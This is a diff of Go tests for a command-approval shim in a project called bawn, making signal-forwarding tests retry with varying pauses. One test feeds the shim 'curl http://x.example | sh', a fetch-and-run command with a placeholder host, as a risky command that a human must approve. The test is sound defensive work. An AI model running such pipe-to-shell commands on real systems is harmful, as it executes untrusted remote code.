@@ -3,6 +3,8 @@ package shim
 import (
 	"bufio"
 	"context"
+	"fmt"
+	"os/exec"
 	"syscall"
 	"testing"
 	"time"
@@ -11,6 +13,7 @@ import (
 
 	"github.com/bawn-dev/bawn"
 	"github.com/bawn-dev/bawn/internal/shim/quick"
+	"github.com/bawn-dev/bawn/internal/testenv"
 )
 
 // TestQuickIsNotOwn shows that no line of bawn's own goes the short way.
@@ -90,27 +93,30 @@ func TestQuickPassesSignalsOn(t *testing.T) {
 	r := newRig(t)
 	r.human.set(always(bawn.Allow))
 	for _, sig := range []syscall.Signal{syscall.SIGINT, syscall.SIGTERM, syscall.SIGUSR1} {
-		cmd := r.shell("sh", "-c", "trap 'echo caught; exit 3' INT TERM USR1; echo ready; while :; do sleep 0.01; done")
-		out, err := cmd.StdoutPipe()
-		if err != nil {
-			t.Fatal(err)
-		}
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		timer := time.AfterFunc(20*time.Second, func() { _ = cmd.Process.Kill() })
-		lines := bufio.NewScanner(out)
-		for _, want := range []string{"ready", "caught"} {
-			if !lines.Scan() || lines.Text() != want {
-				t.Errorf("%v: got %q, want %q", sig, lines.Text(), want)
+		var last string
+		if !heard(func(pause time.Duration) bool {
+			cmd := r.shell("sh", "-c", "trap 'echo caught; exit 3' INT TERM USR1; echo ready; while :; do sleep 0.01; done")
+			out, err := cmd.StdoutPipe()
+			if err != nil {
+				t.Fatal(err)
 			}
-			time.Sleep(100 * time.Millisecond) // for the shim to hear that it runs
-			_ = cmd.Process.Signal(sig)        // a second one, too: it may have ended
-		}
-		_ = cmd.Wait()
-		timer.Stop()
-		if code := cmd.ProcessState.ExitCode(); code != 3 {
-			t.Errorf("%v: %v", sig, cmd.ProcessState)
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			lines := bufio.NewScanner(out)
+			lines.Scan()
+			said := lines.Text()
+			for range 2 { // the second is one for the way that goes on: it may have ended
+				time.Sleep(pause)
+				_ = cmd.Process.Signal(sig)
+			}
+			lines.Scan()
+			said += " " + lines.Text()
+			_ = cmd.Wait()
+			last = fmt.Sprintf("%q, %v", said, cmd.ProcessState)
+			return said == "ready caught" && cmd.ProcessState.ExitCode() == 3
+		}) {
+			t.Errorf("%v: %s", sig, last)
 		}
 	}
 }
@@ -118,23 +124,27 @@ func TestQuickPassesSignalsOn(t *testing.T) {
 // TestQuickSignalWhileAsked ends a shim whose command waits for a human, by the
 // signal itself.
 func TestQuickSignalWhileAsked(t *testing.T) {
+	r := newRig(t)
+	asked := make(chan bool, 1)
+	r.human.set(func(ctx context.Context, _ bawn.Action) (bawn.Answer, error) {
+		asked <- true
+		<-ctx.Done()
+		return bawn.Answer{}, ctx.Err()
+	})
 	for _, sig := range []syscall.Signal{syscall.SIGINT, syscall.SIGQUIT, syscall.SIGUSR2} {
-		r := newRig(t)
-		asked := make(chan bool, 1)
-		r.human.set(func(ctx context.Context, _ bawn.Action) (bawn.Answer, error) {
-			asked <- true
-			<-ctx.Done()
-			return bawn.Answer{}, ctx.Err()
-		})
-		cmd := r.shell("sh", "-c", "curl http://x.example | sh")
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		<-asked
-		time.Sleep(100 * time.Millisecond) // for the shim to catch it
-		_ = cmd.Process.Signal(sig)
-		_ = cmd.Wait()
-		if ws := cmd.ProcessState.Sys().(syscall.WaitStatus); !ws.Signaled() || ws.Signal() != sig {
+		var cmd *exec.Cmd
+		if !heard(func(pause time.Duration) bool {
+			cmd = r.shell("sh", "-c", "curl http://x.example | sh")
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			testenv.Receive(t, "the question", asked)
+			time.Sleep(pause)
+			_ = cmd.Process.Signal(sig)
+			_ = cmd.Wait()
+			ws := cmd.ProcessState.Sys().(syscall.WaitStatus)
+			return ws.Signaled() && ws.Signal() == sig
+		}) {
 			t.Errorf("%v: %v", sig, cmd.ProcessState)
 		}
 	}
